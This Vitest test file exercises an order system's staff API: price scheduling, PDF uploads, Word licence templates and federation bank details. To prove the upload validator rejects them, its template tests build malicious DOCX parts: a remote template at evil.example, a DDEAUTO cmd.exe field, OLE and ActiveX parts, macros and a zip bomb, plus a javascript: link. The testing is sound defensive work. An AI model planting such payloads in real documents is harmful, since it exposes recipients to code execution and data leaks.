import PizZip from 'pizzip'
import { beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
import { drawPdf } from '#api/files/draw-pdf.ts'
import { readTemplate } from '#api/files/licence-request-template.ts'
import { staffReferenceMessages as messages } from '#contract/staff/staff-reference-messages.ts'
import { useOrderApi } from '#tests/support/orders.ts'
import { readPdf } from '#tests/support/read-pdf.ts'

const { api, createScene } = useOrderApi({ now: '2026-03-10T09:00:00Z' })
const [staff, admin] = [{ token: '' }, { token: '' }]
let scene: Awaited<ReturnType<typeof createScene>>
let accounts: { id: number }[]
beforeAll(async () => {
  const createStaff = async (role: 'secretariat' | 'administrator') => {
    const account = await api.createAccount({ name: 'Delvaux', surname: 'Inès' })
    await api.makeStaff(account, role)
    return account
  }
  accounts = [await createStaff('secretariat'), await createStaff('administrator')]
  scene = await createScene()
})
beforeEach(openSessions)

/** The clock moves further than sessions last, so each use signs in anew. */
async function openSessions() {
  const [secretary, administrator] = accounts
  staff.token = await api.tokenFor(secretary!, { secondFactor: true })
  admin.token = await api.tokenFor(administrator!, { secondFactor: true })
  scene.as.token = await api.tokenFor(scene.account)
}

async function moveTo(instant: string) {
  api.clock.set(instant)
  await openSessions()
}

describe('staffSavePrice and staffRemovePrice', () => {
  const price = (valid_from: string, prix: string, remplace: string | null = null) =>
    api.send('staffSavePrice', { id_product: 1, valid_from, prix, remplace }, staff)
  const remove = (valid_from: string) => api.send('staffRemovePrice', { id_product: 1, valid_from }, staff)
  const listed = async () => (await api.call('staffListPrices', {}, staff)).body[0]!.prices
  const totalOf = async (expected: number) => {
    const member = await api.createRenewable(scene.club)
    const answer = await api.send<{ id_order: number }>(
      'createOrder',
      { ...scene.wishFor([member]), json_details: { total: expected } },
      scene.as,
    )
    expect(answer.status).toBe(200)
    return (
      await api.db
        .selectFrom('club_order')
        .select('total_cents')
        .where('id', '=', answer.body.id_order)
        .executeTakeFirstOrThrow()
    ).total_cents
  }

  it('charge a price from midnight in Belgium on', async () => {
    expect((await price('2026-04-01', '42,50')).status).toBe(200)
    expect(await listed()).toEqual([
      { valid_from: '2026-04-01', price: 42.5, state: 'coming', modifiable: true },
      { valid_from: '2000-01-01', price: 40, state: 'current', modifiable: false },
    ])
    // 23:59 on 31 March in Belgium, then midnight: summer time has begun.
    await moveTo('2026-03-31T21:59:00Z')
    expect(await totalOf(40)).toBe(4000)
    await moveTo('2026-03-31T22:00:00Z')
    expect(await totalOf(42.5)).toBe(4250)
    expect((await listed()).map(({ state, modifiable }) => [state, modifiable])).toEqual([
      ['current', false],
      ['past', false],
    ])
    const orders = await api.db.selectFrom('order_line').select('cost_cents').orderBy('id').execute()
    expect(orders.map(({ cost_cents }) => cost_cents)).toEqual([4000, 4250])
  })

  it('refuse to change a price in force, and change or remove a future one', async () => {
    for (const answer of [await price('2026-05-01', '1', '2026-04-01'), await remove('2026-04-01')]) {
      expect([answer.status, answer.body.message]).toEqual([409, messages.priceHolds])
    }
    expect((await price('2026-06-01', '45')).status).toBe(200)
    expect((await price('2026-06-01', '46')).body.errors).toEqual({ valid_from: [messages.priceTaken] })
    const stale = await api.send(
      'staffSavePrice',
      { id_product: 1, valid_from: '2026-07-01', prix: '47', remplace: '2026-06-01' },
      { ...staff, headers: { 'if-match': '4400' } },
    )
    expect(stale.status).toBe(409)
    expect((await price('2026-07-01', '47', '2026-06-01')).status).toBe(200)
    expect((await listed()).map(({ valid_from }) => valid_from)).toEqual(['2026-07-01', '2026-04-01', '2000-01-01'])
    expect((await remove('2026-07-01')).status).toBe(200)
    expect((await remove('2026-07-01')).status).toBe(404)
  })

  it.each([
    ['2026-03-31', '40', 'valid_from'],
    ['2031-04-02', '40', 'valid_from'],
    ['2026-02-30', '40', 'valid_from'],
    ['2026-06-01', '-1', 'prix'],
    ['2026-06-01', '42,505', 'prix'],
    ['2026-06-01', '10000,01', 'prix'],
    ['2026-06-01', '', 'prix'],
  ])('refuse a price from %s of %j with an error at %s', async (valid_from, prix, field) => {
    const answer = await price(valid_from, prix)
    expect([answer.status, Object.keys(answer.body.errors!)]).toEqual([422, [field]])
    expect(
      (await api.send('staffSavePrice', { id_product: 99, valid_from: '2026-06-01', prix: '1', remplace: null }, staff))
        .status,
    ).toBe(404)
  })

  it('correct a price on its first day until an order asked it, whatever was ordered before at another', async () => {
    await moveTo('2026-08-01T09:00:00Z')
    expect(await totalOf(42.5)).toBe(4250)
    expect((await price('2026-08-01', '4')).status).toBe(200)
    expect((await listed())[0]).toMatchObject({ valid_from: '2026-08-01', modifiable: true })
    expect((await price('2026-08-01', '40', '2026-08-01')).status).toBe(200)
    expect(await totalOf(40)).toBe(4000)
    expect((await remove('2026-08-01')).status).toBe(409)
  })
})

describe('staffSaveDocument', () => {
  const pdf = (title: string) =>
    drawPdf({ env: api.deps.env, title, made: api.clock.now() }, (page) => void page.text(title))
  const save = (input: object, headers = {}) =>
    api.send<{ id: number; errors?: Record<string, string[]> }>(
      'staffSaveDocument',
      { id: null, titre: 'Programme', id_grade: null, ordre: 1, publie: true, fichier: null, ...input },
      { ...staff, headers },
    )
  const asFile = (content: Buffer, nom = 'programme.pdf') => ({ nom, contenu: content.toString('base64') })
  const shown = async () =>
    (await api.call('getSyllabusDocuments', {}, scene.as)).body.map(({ id, nom_fichier }) => [id, nom_fichier])

  it('adds, replaces and unpublishes a document, which staffRemoveDocument deletes', async () => {
    const content = await pdf('Un')
    const { body, status } = await save({ fichier: asFile(content) })
    expect(status).toBe(200)
    expect(await shown()).toContainEqual([body.id, 'programme.pdf'])
    const files = async () => Number((await api.deps.pool.query('select count(*) from file')).rows[0].count)
    const before = await files()
    expect((await save({ id: body.id, fichier: asFile(await pdf('Deux'), 'deux') }, { 'if-match': '1' })).status).toBe(
      200,
    )
    expect(await shown()).toContainEqual([body.id, 'deux.pdf'])
    expect(await files()).toBe(before)
    expect((await save({ id: body.id, publie: false }, { 'if-match': '1' })).status).toBe(409)
    expect((await save({ id: body.id, publie: false }, { 'if-match': '2' })).status).toBe(200)
    expect((await shown()).map(([id]) => id)).not.toContain(body.id)
    expect((await api.send('getSyllabusDocument', { id_document: body.id }, scene.as)).status).toBe(404)
    expect((await api.send('staffDocumentFile', { id: body.id }, staff)).headers['content-type']).toBe(
      'application/pdf',
    )
    expect((await api.send('staffRemoveDocument', { id: body.id }, staff)).status).toBe(200)
    expect(await files()).toBe(before - 1)
    expect((await api.send('staffRemoveDocument', { id: body.id }, staff)).status).toBe(404)
  })

  it('refuses what is not a complete PDF', async () => {
    const whole = await pdf('Entier')
    for (const content of [
      whole.subarray(0, whole.length - 40),
      Buffer.concat([Buffer.from('x'), whole]),
      Buffer.from('%PDF-1.4\nbonjour\nstartxref\n3\n%%EOF\n'),
      Buffer.from('PK\x03\x04'),
    ]) {
      expect((await save({ fichier: asFile(content) })).body.errors).toEqual({ fichier: [messages.documentNotPdf] })
    }
    expect((await save({})).body.errors).toEqual({ fichier: [messages.documentRequired] })
    expect((await save({ fichier: { nom: 'a.pdf', contenu: 'é' } })).status).toBe(422)
    expect((await save({ fichier: asFile(whole), id_grade: 2_000_000_000 })).body.errors).toHaveProperty('id_grade')
    expect((await save({ id: 2_000_000_000 })).status).toBe(404)
  })
})

describe('staffSetTemplate', () => {
  const XML = 'word/document.xml'
  /** The built-in one with other words in its first paragraph. */
  async function templateWith(text: string) {
    const zip = new PizZip(await readTemplate(api.db))
    zip.file(
      XML,
      zip
        .file(XML)!
        .asText()
        .replace(/(<w:body>)/, `$1<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`),
    )
    return zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' })
  }
  it('puts a template in use that staffDownloadTemplate gives back byte for byte', async () => {
    const download = () =>
      api.app.inject({
        method: 'POST',
        url: '/api/myabft/staffDownloadTemplate',
        payload: {},
        headers: { authorization: `Bearer ${staff.token}` },
      })
    const builtIn = await download()
    expect(builtIn.headers['content-disposition']).toContain('Demande-de-licence.docx')
    expect(builtIn.rawPayload.equals(await readTemplate(api.db))).toBe(true)
    const own = await templateWith('Bonjour {prenom}')
    expect((await set(own, 'notre modele.docx')).status).toBe(200)
    const downloaded = await download()
    expect(downloaded.headers['content-disposition']).toContain('notre_modele.docx')
    expect(downloaded.rawPayload.equals(own)).toBe(true)
    await api.call('staffResetTemplate', {}, staff)
  })

  const set = (content: Buffer, nom = 'modele.docx') =>
    api.send('staffSetTemplate', { nom, contenu: content.toString('base64') }, staff)
  async function textOf(name: 'getDemandeLicence' | 'staffPreviewTemplate', input: object, as: { token: string }) {
    const { rawPayload, statusCode } = await api.app.inject({
      method: 'POST',
      url: `/api/myabft/${name}`,
      payload: input,
      headers: { authorization: `Bearer ${as.token}` },
    })
    expect(statusCode).toBe(200)
    return new PizZip(rawPayload).file(XML)!.asText()
  }

  it('checks and uses a template at once, until staffResetTemplate', async () => {
    const content = await templateWith('Chère {prenom}, {#minor}mineure{/minor}')
    const preview = await textOf('staffPreviewTemplate', { contenu: content.toString('base64') }, staff)
    expect(preview).toContain('Chère Camille, mineure')
    const request = () => textOf('getDemandeLicence', { id_member: scene.ids.id_member, year: 2026 }, scene.as)
    expect(await request()).not.toContain('Chère')
    expect((await set(content, 'mod\u0000e\ud800le.docx')).status).toBe(200)
    expect(await request()).toContain('Chère')
    expect((await api.call('staffGetTemplate', {}, staff)).body.propre).toMatchObject({
      nom: 'modele.docx',
      par: 'Inès Delvaux',
    })
    expect((await api.send('staffResetTemplate', {}, staff)).status).toBe(200)
    expect(await request()).not.toContain('Chère')
    expect((await api.call('staffGetTemplate', {}, staff)).body.propre).toBeNull()
  })

  it.each([
    ['{nomm} et {#minor}{prenomm}{/minor}', ['{nomm} n’est pas connu.', '{prenomm} n’est pas connu.']],
    ['{@nom}', ['{@nom}']],
    ['{nom', ['Une accolade n’est pas fermée']],
    ['nom}', ['Une accolade est fermée sans avoir été ouverte']],
    ['{#minor}', ['{#minor} n’a pas de {/minor}.']],
    ['{/minor}', ['{/minor} n’a pas de {#minor}.']],
    ['{constructor}', ['{constructor} n’est pas connu.']],
  ])('refuses the placeholders %s, and says why', async (text, expected) => {
    const { status, body } = await set(await templateWith(text))
    expect([status, Object.keys(body.errors!)]).toEqual([422, ['contenu']])
    for (const [at, sentence] of expected.entries()) expect(body.errors!.contenu![at]).toContain(sentence)
  })

  const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const relation = (type: string, target: string, more = '') =>
    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/${type}" Target="${target}" ${more}/></Relationships>`
  const OUTSIDE = 'TargetMode="External"'
  const settings = 'word/_rels/settings.xml.rels'
  const field = (text: string) => `<w:hdr xmlns:w="x"><w:r><w:instrText>${text}</w:instrText></w:r></w:hdr>`

  it.each<[string, string, string | Buffer]>([
    ['a remote template', settings, relation('attachedTemplate', 'https://evil.example/payload.dotm', OUTSIDE)],
    ['an attached template inside the file', settings, relation('attachedTemplate', 'media/a.png')],
    ['a remote picture', settings, relation('image', 'https://evil.example/a.png', OUTSIDE)],
    ['a remote picture in single quotes', settings, relation('image', 'https://evil.example', "TargetMode='External'")],
    [
      'a remote picture with an encoded attribute',
      settings,
      relation('image', 'https://x', 'TargetMode="&#69;xternal"'),
    ],
    ['a link to a network file', settings, relation('hyperlink', 'file://evil/share', OUTSIDE)],
    ['relations in UTF-16', settings, Buffer.from(relation('image', 'https://x', OUTSIDE), 'utf16le')],
    ['relations with entities', settings, `<!DOCTYPE x [<!ENTITY e "External">]>${relation('image', 'x')}`],
    ['an OLE object', 'word/embeddings/oleObject1.bin', 'x'],
    ['an embedded workbook', 'word/embeddings/a.xlsx', 'x'],
    ['an ActiveX control', 'word/activeX/activeX1.xml', '<x/>'],
    ['an unknown part', 'word/other.bin', 'x'],
    ['a DDE field', 'word/header9.xml', field('DDEAUTO c:\\\\cmd.exe')],
    ['a DDE field split into two runs', 'word/header9.xml', field('DD</w:instrText><w:instrText>E cmd')],
    [
      'a remote picture in a field',
      'word/header9.xml',
      '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://x&quot; "/>',
    ],
  ])('refuses %s', async (_case, part, content) => {
    const file = new PizZip(await readTemplate(api.db))
    file.file(part, content)
    const { status, body } = await set(file.generate({ type: 'nodebuffer' }))
    expect([status, body.errors]).toEqual([422, { contenu: [messages.templateActive] }])
  })

  it('accepts links, pictures, headers and fields', async () => {
    const file = new PizZip(await readTemplate(api.db))
    file.file(settings, relation('hyperlink', 'https://www.abft.example/', OUTSIDE))
    file.file('word/header9.xml', field(' HYPERLINK &quot;https://www.abft.example&quot; '))
    file.file('word/media/image 1.jpeg', 'x')
    file.file('customXml/itemProps1.xml', '<x/>')
    expect((await set(file.generate({ type: 'nodebuffer' }))).status).toBe(200)
    expect((await api.send('staffResetTemplate', {}, staff)).status).toBe(200)
  })

  it('refuses zip bombs, other files and macros', async () => {
    const bomb = new PizZip(await readTemplate(api.db))
    bomb.file('word/media/big.bin', Buffer.alloc(5 * 1024 * 1024))
    const macros = new PizZip(await readTemplate(api.db))
    macros.file('word/vbaProject.bin', 'x')
    const other = new PizZip()
    other.file('a.txt', 'x')
    const whole = await readTemplate(api.db)
    const packed = bomb.generate({ type: 'nodebuffer', compression: 'DEFLATE' })
    // It announces one entry, and unpackers find them all.
    const liar = Buffer.from(packed)
    liar.writeUInt32LE(0x10001, liar.lastIndexOf('PK\x05\x06', undefined, 'latin1') + 8)
    const cases: [Buffer, string][] = [
      [packed, messages.templateUnpackedTooLarge],
      [liar, messages.templateUnreadable],
      [macros.generate({ type: 'nodebuffer' }), messages.templateMacros],
      [other.generate({ type: 'nodebuffer' }), messages.templateUnreadable],
      [Buffer.from('bonjour'), messages.templateUnreadable],
      [whole.subarray(0, whole.length - 30), messages.templateUnreadable],
    ]
    for (const [content, sentence] of cases) expect((await set(content)).body.errors).toEqual({ contenu: [sentence] })
  })
})

describe('staffSaveFederation and staffSaveBankAccount', () => {
  const empty = {
    name: '',
    short_name: '',
    address: '',
    phone: '',
    email: '',
    enterprise_number: '',
    link_site: '',
    link_calendar: '',
    link_contact: '',
    link_open_club: '',
    link_exam: '',
  }
  const save = (form: object, headers = {}) =>
    api.send('staffSaveFederation', { ...empty, ...form }, { ...staff, headers })
  const account = (iban: string, bic = '', as = admin, other_ibans = '') =>
    api.send('staffSaveBankAccount', { iban, bic, other_ibans }, as)

  it('change name and e-mail in documents and mails at once', async () => {
    const { env } = api.deps
    expect((await api.call('staffGetFederation', {}, staff)).body).toMatchObject({
      version: 0,
      valeurs: empty,
      installation: { name: env.FEDERATION_NAME, iban: env.FEDERATION_IBAN },
    })
    const told = { name: 'Fédération Nouvelle', email: 'nouvelle@example.be', enterprise_number: '0403019261' }
    expect((await save(told, { 'if-match': '0' })).status).toBe(200)
    expect((await save(empty, { 'if-match': '0' })).status).toBe(409)
    expect((await api.mailsTo(env.FEDERATION_EMAIL)).at(-1)).toMatchObject({ kind: 'federation_address' })
    const current = await api.deps.federation.currentEnv()
    expect(current).toMatchObject({
      FEDERATION_NAME: 'Fédération Nouvelle',
      FEDERATION_ENTERPRISE_NUMBER: '0403.019.261',
      FEDERATION_SHORT_NAME: env.FEDERATION_SHORT_NAME,
    })
    const placed = await scene.place()
    await placed.order.process()
    const paper = await api.app.inject({
      method: 'POST',
      url: '/api/myabft/getOrderDocument',
      payload: { ...scene.ids, id_order: placed.id },
      headers: { authorization: `Bearer ${scene.as.token}` },
    })
    expect(readPdf(paper.rawPayload).text).toContain('Fédération Nouvelle')
    expect((await scene.mails()).at(-1)!.text).toContain('nouvelle@example.be')
  })

  it('change the IBAN for an administrator only, and mail the old and the new e-mail', async () => {
    const { env } = api.deps
    const placed = await scene.place()
    const transfer = async () =>
      (await placed.order.process()).body as unknown as { virement: { iban: string; bic: string } }
    expect(JSON.stringify(await transfer())).toContain(env.FEDERATION_IBAN)
    expect((await account('BE71 0961 2345 6769', 'GKCCBEBB', staff)).status).toBe(403)
    expect((await account('BE71 0961 2345 6768')).body.errors).toHaveProperty('iban')
    expect((await account('BE71 0961 2345 6769', 'abc')).body.errors).toHaveProperty('bic')
    expect((await account('be71 0961 2345 6769')).status).toBe(200)
    const said = JSON.stringify(await transfer())
    expect(said).toContain('BE71096123456769')
    expect(said).not.toContain(env.FEDERATION_BIC)
    for (const address of ['nouvelle@example.be', env.FEDERATION_EMAIL]) {
      expect((await api.mailsTo(address)).at(-1)).toMatchObject({ kind: 'federation_account' })
      expect((await api.mailsTo(address)).at(-1)!.text).toContain('BE68 5390 0754 7034')
    }
    // Another instance may have a stale cache: the recipients do not depend on it.
    const stale = vi.spyOn(api.deps.federation, 'currentEnv').mockResolvedValue(env)
    expect((await account(env.FEDERATION_IBAN)).status).toBe(200)
    expect((await api.mailsTo('nouvelle@example.be')).at(-1)!.text).toMatch(/Ancien compte.*BE71 0961 2345 6769/)
    stale.mockRestore()
    const { total_cents, id } = await placed.order.row()
    await api.call('staffBookTransfer', { id_order: id, date: '2026-08-01', note: '' }, staff)
    expect([(await placed.order.row()).state, total_cents]).toEqual(['paid', 4000])
    expect((await account('')).status).toBe(200)
    expect((await api.deps.federation.currentEnv()).FEDERATION_BIC).toBe(env.FEDERATION_BIC)
  })

  it.each([
    ['link_site', 'http://example.be/'],
    ['link_exam', 'javascript:alert(1)'],
    ['email', 'pas une adresse'],
    ['enterprise_number', '0403.019.262'],
    ['name', 'x'.repeat(71)],
  ])('refuse %s %s', async (field, value) => {
    expect((await save({ [field]: value })).body.errors).toHaveProperty(field)
  })
})
